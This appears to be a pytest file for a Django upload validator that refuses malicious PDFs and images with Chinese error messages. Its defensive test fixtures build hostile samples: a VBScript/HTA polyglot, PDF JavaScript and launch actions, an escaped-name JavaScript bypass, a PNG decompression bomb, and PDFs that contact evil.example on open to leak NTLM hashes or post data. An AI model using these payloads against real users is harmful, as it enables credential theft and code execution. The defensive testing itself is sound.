"""Uploads are parsed, not only sniffed (core.contentcheck): a PDF header on a script, a PDF
that runs code or carries files, an image that does not decode — each refused in Chinese."""

import io
import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from core.uploads import check_upload
from tests.factories import PDF_BYTES, blank_pdf, image_bytes


def _upload(content: bytes, name="联盟章程.pdf"):
    return SimpleUploadedFile(name, content)


def _refusal(content: bytes, name="联盟章程.pdf") -> str:
    with pytest.raises(ValidationError) as refused:
        check_upload(_upload(content, name))
    assert refused.value.code == "bad_content"
    return refused.value.messages[0]


def _pdf(change) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(kind: str, **entries):
    def change(writer):
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        for key, value in entries.items():
            action[NameObject(f"/{key}")] = TextStringObject(value)
        writer._root_object[NameObject("/OpenAction")] = action

    return change


def _document_javascript(writer):
    """A script in the document's name tree: run by the viewer when the file opens."""
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('x');"),
        }
    )
    tree = ArrayObject([TextStringObject("init"), writer._add_object(script)])
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): tree})}
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def test_plain_pdfs_and_images_are_accepted():
    assert check_upload(_upload(PDF_BYTES)).content_type == "application/pdf"
    assert check_upload(_upload(blank_pdf(pages=3))).extension == ".pdf"
    assert check_upload(_upload(image_bytes("JPEG"), "扫描.jpg")).content_type == "image/jpeg"
    assert check_upload(_upload(image_bytes("PNG"), "扫描.png")).content_type == "image/png"


def test_a_script_with_a_pdf_header_is_refused():
    polyglot = b'%PDF-1.4\n<script language=VBScript>CreateObject("WScript.Shell")</script>'
    assert "不是完整有效的PDF" in _refusal(polyglot, "联盟章程.hta")


def test_a_pdf_with_javascript_is_refused():
    assert "含有脚本" in _refusal(_pdf(_document_javascript))


def test_a_pdf_whose_opening_runs_javascript_is_refused():
    assert "含有脚本" in _refusal(_pdf(_open_action("/JavaScript", JS="app.alert(1)")))


def test_a_pdf_with_a_launch_action_is_refused():
    assert "启动程序" in _refusal(_pdf(_open_action("/Launch", F="calc.exe")))


def test_a_pdf_with_an_embedded_file_is_refused():
    assert "内嵌了其他文件" in _refusal(_pdf(lambda w: w.add_attachment("x.exe", b"MZ")))


def test_a_pdf_hiding_javascript_behind_name_escapes_is_refused():
    # /J#61vaScript is /JavaScript once the name is decoded, as every viewer decodes it.
    raw = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"3 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj\n"
        b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
    )
    assert "含有脚本" in _refusal(raw)


def test_an_image_that_does_not_decode_is_refused():
    fake_png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(200)
    assert "无法解码" in _refusal(fake_png, "扫描.png")
    truncated = image_bytes("JPEG", size=(400, 300))[:300]
    assert "无法解码" in _refusal(truncated, "扫描.jpg")


def test_a_decompression_bomb_is_refused_without_decoding_it():
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IEND", b"")
    assert "像素过多" in _refusal(bomb, "扫描.png")


def test_the_refusal_names_the_file_and_says_what_to_do():
    message = _refusal(_pdf(_document_javascript), "章程（盖章）.pdf")
    assert "章程（盖章）.pdf" in message and "打印为PDF" in message


# --- Penetration test (release after issue 11) ---------------------------------------------
# Accepted through POST /filings/<pk>/materials/upload/ and offered to reviewers:
# - a PDF whose /OpenAction is /GoToR to \\evil.example\share\x.pdf (a Windows reader
#   connects to the attacker's SMB server on open and sends the reviewer's NTLM hash),
# - /SubmitForm to http://evil.example/steal (the reader posts on open),
# - /URI on open (the reader goes to a site of the uploader's choosing).
# None of them is in a scan; open and additional actions that reach out are active content.


@pytest.mark.parametrize(
    ("kind", "entries"),
    [
        ("/GoToR", {"F": "\\\\evil.example\\share\\x.pdf"}),
        ("/SubmitForm", {"F": "http://evil.example/steal"}),
        ("/URI", {"URI": "http://evil.example/"}),
    ],
)
def test_a_pdf_that_reaches_out_when_opened_is_refused(kind, entries):
    assert _refusal(_pdf(_open_action(kind, **entries)))


# A 343 KB PNG of 9,400 × 9,400 RGBA pixels (under Pillow's 89 MP warning) was accepted:
# decoding it to check it took ~340 MB of a worker's memory and 3–4 s, per upload, and a
# lead unit may send eight at once. A scan of A3 at 300 dpi is ~17 MP.


def test_an_image_too_large_to_decode_safely_is_refused():
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGBA", (9400, 9400)).save(out, "PNG")
    assert len(out.getvalue()) < 1_000_000
    assert "像素" in _refusal(out.getvalue(), "扫描件.png")


@pytest.mark.parametrize("algorithm", ["AES-128", "AES-256", "RC4-128"])
def test_a_pdf_protected_only_against_editing_is_accepted(algorithm):
    """Scanners and office systems encrypt with an owner password only: anyone can open
    the file, so its content is checked like any other (it was refused as unreadable
    without the `cryptography` package)."""

    def protect(writer):
        writer.encrypt(user_password="", owner_password="owner-secret", algorithm=algorithm)

    assert check_upload(_upload(_pdf(protect))).content_type == "application/pdf"


def test_a_pdf_that_needs_a_password_to_open_is_refused():
    def lock(writer):
        writer.encrypt(user_password="open-me", owner_password="owner", algorithm="AES-256")

    assert "加密的PDF" in _refusal(_pdf(lock))
